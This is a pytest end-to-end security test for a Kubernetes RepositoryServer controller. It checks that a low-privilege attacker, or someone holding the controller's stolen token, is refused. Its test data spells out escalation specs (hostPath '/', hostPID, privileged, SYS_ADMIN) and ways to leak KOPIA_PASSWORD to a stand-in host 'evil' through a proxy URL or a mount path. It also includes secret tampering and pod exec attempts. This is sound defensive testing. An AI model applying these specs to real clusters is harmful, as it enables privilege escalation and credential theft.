"""Who may create RepositoryServers, and nothing else, gets no further.

The attacker has a controller of its own, installed from the manifests as they are. It is
tried without the admission policies and with them. With them, whoever has stolen the token of that
controller gets no further than children of RepositoryServers.
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest
import yaml

from controller.resource import Resource
from e2e import cluster as sessions
from e2e.cluster import NAMESPACES
from e2e.installation import MANIFESTS
from e2e.server import condition
from e2e.waiting import wait_for
from reconcilers import resources
from reconcilers.repositoryserver import api
from reconcilers.repositoryserver.children import names

if TYPE_CHECKING:
    from collections.abc import Iterator

    from controller.resource import Object
    from e2e.cluster import Cluster

NAMESPACE = f"{sessions.NAMESPACE}-attacker"
ATTACKER = "attacker"
CONTROLLER = "repository-server-controller"
POLICIES = MANIFESTS / "policies"

ROLES = Resource("rbac.authorization.k8s.io", "v1", "roles", "Role")
ROLE_BINDINGS = Resource("rbac.authorization.k8s.io", "v1", "rolebindings", "RoleBinding")

RULES = [
    {
        "apiGroups": [api.GROUP],
        "resources": ["repositoryservers"],
        "verbs": ["get", "list", "watch", "create", "update", "patch", "delete"],
    }
]

#: The victim's: what the attacker may name but not read.
CREDENTIAL = "victims-credential"


def on_server(**change: Any) -> Object:
    return {"podOverride": {"containers": [{"name": names.CONTAINER, **change}]}}


def beside(**container: Any) -> Object:
    return {"podOverride": {"initContainers": [{"name": "evil", "image": "evil", **container}]}}


def of_volume(**volume: Any) -> Object:
    return {"podOverride": {"volumes": [{"name": "evil", **volume}]}}


OVERRIDE = "InvalidPodOverride"
ACCOUNT = "ServiceAccountNotAllowed"

#: Each way to more power than the attacker has, and how it is refused.
WAYS: list[tuple[str, Object, str]] = [
    ("processes of the node", {"podOverride": {"hostPID": True}}, OVERRIDE),
    ("network of the node", {"podOverride": {"hostNetwork": True}}, OVERRIDE),
    ("memory of the node", {"podOverride": {"hostIPC": True}}, OVERRIDE),
    ("a node of choice", {"podOverride": {"nodeName": "node"}}, OVERRIDE),
    ("files of the node", of_volume(hostPath={"path": "/"}), OVERRIDE),
    ("a container before the server", beside(), OVERRIDE),
    ("a privileged container", beside(securityContext={"privileged": True}), OVERRIDE),
    ("privileged", on_server(securityContext={"privileged": True}), OVERRIDE),
    ("a capability", on_server(securityContext={"capabilities": {"add": ["SYS_ADMIN"]}}), OVERRIDE),
    ("root by an override", on_server(securityContext={"runAsUser": 0}), OVERRIDE),
    ("an image", on_server(image="evil"), OVERRIDE),
    ("a command", on_server(command=["sh"]), OVERRIDE),
    ("a hook", on_server(lifecycle={"postStart": {"exec": {"command": ["sh"]}}}), OVERRIDE),
    (
        "another Secret in a variable",
        on_server(
            env=[
                {
                    "name": "A",
                    "valueFrom": {"secretKeyRef": {"name": CREDENTIAL, "key": "password"}},
                }
            ]
        ),
        OVERRIDE,
    ),
    (
        "the password in a proxy's URL",
        on_server(env=[{"name": "HTTPS_PROXY", "value": "http://$(KOPIA_PASSWORD)@evil"}]),
        OVERRIDE,
    ),
    (
        "the password in the path of a mount, which the status of the pod repeats",
        {
            "podOverride": {
                "volumes": [{"name": "evil", "emptyDir": {}}],
                "containers": [
                    {
                        "name": names.CONTAINER,
                        "env": [{"name": "UP", "value": ".."}],
                        "volumeMounts": [
                            {
                                "name": "evil",
                                "mountPath": "/evil",
                                "subPathExpr": "$(UP)/$(KOPIA_PASSWORD)",
                            }
                        ],
                    }
                ],
            }
        },
        OVERRIDE,
    ),
    (
        "a credential sent to another host",
        on_server(env=[{"name": "AZURE_AUTHORITY_HOST", "value": "https://evil"}]),
        OVERRIDE,
    ),
    ("another Secret as files", of_volume(secret={"secretName": CREDENTIAL}), OVERRIDE),
    (
        "a token by a volume",
        of_volume(projected={"sources": [{"serviceAccountToken": {"path": "token"}}]}),
        OVERRIDE,
    ),
    ("another's volume", of_volume(persistentVolumeClaim={"claimName": "other"}), OVERRIDE),
    ("a token for the API", {"podOverride": {"automountServiceAccountToken": True}}, OVERRIDE),
    ("by override", {"podOverride": {"serviceAccountName": CONTROLLER}}, OVERRIDE),
    ("the controller's account", {"serviceAccountName": CONTROLLER}, ACCOUNT),
    ("an account of the victim's", {"serviceAccountName": "cloud"}, ACCOUNT),
    ("an image by the field", {"image": "evil"}, "ImageNotAllowed"),
    ("a token for others", {"serviceAccountToken": {"audience": "vault"}}, ACCOUNT),
]

#: What the CRD refuses already.
IMPOSSIBLE = [
    pytest.param(
        {"podLabels": {"app.kubernetes.io/name": CONTROLLER}}, id="the controller's own label"
    ),
    pytest.param({"podLabels": {names.LABEL_HASH: "x"}}, id="a label of a server's"),
    pytest.param(
        {"serviceAccountToken": {"audience": "https://kubernetes.default.svc"}},
        id="a token for the API by the field",
    ),
]


CHILD = {"app.kubernetes.io/managed-by": names.MANAGER, names.LABEL_INSTANCE: "files"}
#: An owner that is made up: no policy can look it up.
MADE_UP = [
    {"apiVersion": f"{api.GROUP}/{api.VERSION}", "kind": api.KIND, "name": "files", "uid": "1"}
]


def stolen(resource: Resource, name: str, metadata: Object, **content: Any) -> Object:
    """Return an object that somebody makes with the controller's token."""
    return {
        "apiVersion": resource.api_version,
        "kind": resource.kind,
        "metadata": {"name": name, "namespace": NAMESPACE, **metadata},
        **content,
    }


def replica_set(**spec: Any) -> Object:
    """Return a ReplicaSet of pods, as a child of a server."""
    template = {
        "metadata": {"labels": CHILD},
        "spec": {"containers": [{"name": "evil", "image": "evil"}], **spec},
    }
    content = {"selector": {"matchLabels": CHILD}, "template": template}
    metadata = {"labels": CHILD, "ownerReferences": MADE_UP}
    return stolen(resources.REPLICA_SETS, "files-0123456789", metadata, spec=content)


#: What somebody with the controller's token makes, and how it is refused.
MADE_WITH_ITS_TOKEN = {
    "a Secret of no server": (
        stolen(resources.SECRETS, "evil", {"labels": CHILD}),
        "children of RepositoryServers only",
    ),
    "a token of another account": (
        stolen(
            resources.SECRETS,
            "evil",
            {
                "labels": CHILD,
                "ownerReferences": MADE_UP,
                "annotations": {"kubernetes.io/service-account.name": "cloud"},
            },
            type="kubernetes.io/service-account-token",
        ),
        "types Opaque and kubernetes.io/tls only",
    ),
    "files of the node": (
        replica_set(volumes=[{"name": "evil", "hostPath": {"path": "/"}}]),
        "files of the node",
    ),
    "processes of the node": (replica_set(hostPID=True), "namespaces of a node"),
    "its own account": (replica_set(serviceAccountName=CONTROLLER), "account of an operator"),
}

#: What it does to objects that are there.
DONE_WITH_ITS_TOKEN = {
    "a Secret is changed": (
        ("patch", f"secret/{CREDENTIAL}", "--type=merge", '--patch={"data": {"a": "YQ=="}}'),
        "children of RepositoryServers only",
    ),
    "a Secret is deleted": (
        ("delete", f"secret/{CREDENTIAL}"),
        "children of RepositoryServers only",
    ),
    "a pod is deleted": (
        ("delete", "pods", f"--selector=app.kubernetes.io/name={CONTROLLER}"),
        "the pods of RepositoryServers only",
    ),
}


class Attacker:
    """An account that may write RepositoryServers, with a controller that serves them.

    Args:
        cluster: Where it is.
    """

    def __init__(self, cluster: Cluster) -> None:
        self.cluster = cluster

    def applies(self, name: str, settings: Object) -> str:
        """Return what the API server says to a RepositoryServer; empty if it takes it."""
        ran = self.cluster.kubectl.attempt(
            "create",
            f"--as={ATTACKER}",
            "--filename=-",
            stdin=json.dumps(repository_server(name, settings)),
        )
        return "" if ran.code == 0 else ran.complaint

    def tries(self, *arguments: str, stdin: str = "") -> str:
        """Return what the API server says to a request with the controller's token."""
        account = f"system:serviceaccount:{NAMESPACE}:{CONTROLLER}"
        ran = self.cluster.kubectl.attempt(
            *arguments, f"--as={account}", f"--namespace={NAMESPACE}", stdin=stdin
        )
        return "" if ran.code == 0 else ran.complaint

    def makes(self, obj: Object) -> str:
        """Return what the API server says to an object that is made with that token."""
        return self.tries("create", "--filename=-", "--dry-run=server", stdin=json.dumps(obj))

    def may(self, verb: str, resource: str) -> bool:
        """Return whether the account has a right."""
        ran = self.cluster.kubectl.attempt(
            "auth", "can-i", verb, resource, f"--as={ATTACKER}", f"--namespace={NAMESPACE}"
        )
        return ran.code == 0

    def reason(self, name: str) -> str:
        """Return why a server of the attacker's is not Ready; empty before that is known."""
        found = self.cluster.get(api.REPOSITORY_SERVERS, name, NAMESPACE)
        ready = condition(found, "Ready") if found is not None else None
        return "" if ready is None or ready["status"] != "False" else str(ready["reason"])

    def pods(self) -> list[Object]:
        """Return the pods of servers."""
        label = f"{names.LABEL_MANAGED_BY}={names.MANAGER}"
        pods: list[Object] = self.cluster.client.list(
            resources.PODS, NAMESPACE, label_selector=label
        )["items"]
        return pods


def repository_server(name: str, settings: Object) -> Object:
    secret = {"name": CREDENTIAL}
    return {
        "apiVersion": f"{api.GROUP}/{api.VERSION}",
        "kind": api.KIND,
        "metadata": {"name": name, "namespace": NAMESPACE},
        "spec": {
            "storage": {"secretRef": secret},
            "repository": {"rootPath": "repository", "passwordSecretRef": secret},
            "server": {
                "adminSecretRef": secret,
                "tls": {"selfSigned": {}},
                "userAccess": {"username": "evil", "userAccessSecretRef": secret},
                **settings,
            },
        },
    }


def overlay(cluster: Cluster, directory: Path) -> Path:
    """Write an overlay that installs the controller as it is, but for the images of the tests."""
    name, _, tag = cluster.controller_image.rpartition(":")
    relative = Path(*[".."] * (len(directory.resolve().parts) - 1))
    content = {
        "namespace": NAMESPACE,
        "resources": [str(relative / (MANIFESTS / "controller").resolve().relative_to("/"))],
        "images": [{"name": CONTROLLER, "newName": name, "newTag": tag}],
        "replicas": [{"name": CONTROLLER, "count": 1}],
    }
    (directory / "kustomization.yaml").write_text(yaml.safe_dump(content))
    return directory


@pytest.fixture(scope="module")
def attacker(
    cluster: Cluster,
    definition: None,  # noqa: ARG001 - what is attacked must be served
    tmp_path_factory: pytest.TempPathFactory,
) -> Iterator[Attacker]:
    """Give the attacker, and a controller installed as a user does."""
    client = cluster.client
    cluster.delete(NAMESPACES, NAMESPACE, "")
    client.create(NAMESPACES, "", {"metadata": {"name": NAMESPACE}})
    try:
        cluster.kubectl.wait(NAMESPACE, "serviceaccount/default", "create")
        client.create(ROLES, NAMESPACE, {"metadata": {"name": ATTACKER}, "rules": RULES})
        binding = {
            "metadata": {"name": ATTACKER},
            "roleRef": {"apiGroup": ROLES.group, "kind": "Role", "name": ATTACKER},
            "subjects": [{"apiGroup": ROLES.group, "kind": "User", "name": ATTACKER}],
        }
        client.create(ROLE_BINDINGS, NAMESPACE, binding)
        client.create(resources.SERVICE_ACCOUNTS, NAMESPACE, {"metadata": {"name": "cloud"}})
        directory = overlay(cluster, tmp_path_factory.mktemp("attacker"))
        cluster.kubectl.run("apply", f"--kustomize={directory}")
        cluster.kubectl.wait(NAMESPACE, f"deployment/{CONTROLLER}", "condition=Available")
        yield Attacker(cluster)
    finally:
        cluster.discard(NAMESPACES, NAMESPACE, "")


@pytest.fixture
def _policies(cluster: Cluster, attacker: Attacker) -> Iterator[None]:
    cluster.kubectl.run("apply", f"--kustomize={POLICIES}")
    try:
        wait_for(
            "the policies",
            lambda: (
                attacker.applies("first", {"podOverride": {}})
                + attacker.makes(MADE_WITH_ITS_TOKEN["a Secret of no server"][0])
                + attacker.makes(MADE_WITH_ITS_TOKEN["processes of the node"][0])
            ),
            lambda said: all(
                f"repository-server-{name}" in said
                for name in ("authors", "controller-writes", "controller-pods")
            ),
        )
        yield
    finally:
        cluster.kubectl.run("delete", f"--kustomize={POLICIES}")


def test_an_attacker_may_create_repository_servers_and_nothing_else(attacker: Attacker) -> None:
    assert attacker.may("create", "repositoryservers.cr.kanister.io")
    for verb, resource in (
        ("create", "pods"),
        ("get", "secrets"),
        ("create", "pods/exec"),
        ("create", "serviceaccounts/token"),
    ):
        assert not attacker.may(verb, resource)


def test_every_way_is_refused_by_the_controller_and_makes_no_pod(attacker: Attacker) -> None:
    expected = {f"way-{number}": (what, reason) for number, (what, _, reason) in enumerate(WAYS)}

    said = [
        attacker.applies(name, settings)
        for name, (_, settings, _) in zip(expected, WAYS, strict=True)
    ]

    assert set(said) == {""}
    wait_for(
        "each way to be refused",
        lambda: {
            what: found
            for name, (what, reason) in expected.items()
            if (found := attacker.reason(name)) != reason
        },
        lambda others: not others,
    )
    assert attacker.pods() == []


@pytest.mark.parametrize("settings", IMPOSSIBLE)
def test_what_can_never_be_is_refused_by_the_api_server(
    attacker: Attacker, settings: Object
) -> None:
    assert "is invalid" in attacker.applies("impossible", settings)


@pytest.mark.usefixtures("_policies")
def test_the_policies_refuse_every_way_as_it_is_tried(attacker: Attacker) -> None:
    ways = {what: settings for what, settings, _ in WAYS} | {"root": {"runAsUser": 0}}

    said = {what: attacker.applies("tried", settings) for what, settings in ways.items()}

    asks = "asks for the right to create pods in this namespace"
    assert {what: words for what, words in said.items() if asks not in words} == {}
    assert attacker.applies("plain", {}) == ""


@pytest.mark.usefixtures("_policies")
def test_who_has_stolen_the_controllers_token_gets_children_of_servers_only(
    cluster: Cluster, attacker: Attacker
) -> None:
    """A child that has lost its owner is nobody's to change or delete, whatever its labels."""
    metadata = {"name": CREDENTIAL, "labels": CHILD}
    cluster.client.create(resources.SECRETS, NAMESPACE, {"metadata": metadata})
    (pod,) = cluster.client.list(
        resources.PODS, NAMESPACE, label_selector=f"app.kubernetes.io/name={CONTROLLER}"
    )["items"]

    said = {what: attacker.makes(obj) for what, (obj, _) in MADE_WITH_ITS_TOKEN.items()}
    said |= {
        what: attacker.tries(*arguments, "--dry-run=server")
        for what, (arguments, _) in DONE_WITH_ITS_TOKEN.items()
    }
    # kubectl exec asks for the pod first, which the controller may not.
    path = f"/api/v1/namespaces/{NAMESPACE}/pods/{pod['metadata']['name']}/exec?command=true"
    ran = attacker.tries("create", f"--raw={path}", "--filename=-", stdin="{}")

    expected = {**MADE_WITH_ITS_TOKEN, **DONE_WITH_ITS_TOKEN}
    wrong = {what: words for what, words in said.items() if expected[what][1] not in words}
    assert wrong == {}
    assert "in the containers of servers only" in ran
